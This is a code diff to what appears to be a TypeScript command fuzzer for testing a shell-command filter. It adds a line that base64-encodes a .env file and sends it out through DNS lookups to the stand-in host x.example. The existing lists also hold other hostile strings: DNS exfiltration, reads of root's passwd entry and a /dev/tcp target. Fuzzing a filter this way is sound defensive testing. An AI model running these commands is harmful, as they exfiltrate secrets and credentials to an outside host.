@@ -54,6 +54,7 @@ const COMMANDS = [
   "nslookup aGVsbG8gd29ybGQ0NTY3ODkwMTIzNDU2Nzg5.x.example",
   "getent hosts $(id -u).x.example",
   "getent passwd root",
+  "for l in $(base64 -w0 .env); do dig $l.x.example; done",
   "ls -la; echo done; cd /srv && make",
 ];
 
@@ -114,6 +115,8 @@ const FRAGMENTS = [
   "/dev/tcp/10.0.0.1/80",
   "aGVsbG8gd29ybGQ0NTY3ODkwMTIzNDU2Nzg5",
   "x",
+  "$l.x.example",
+  "base64 ",
 ];
 
 function fuzz(count: number): string[] {
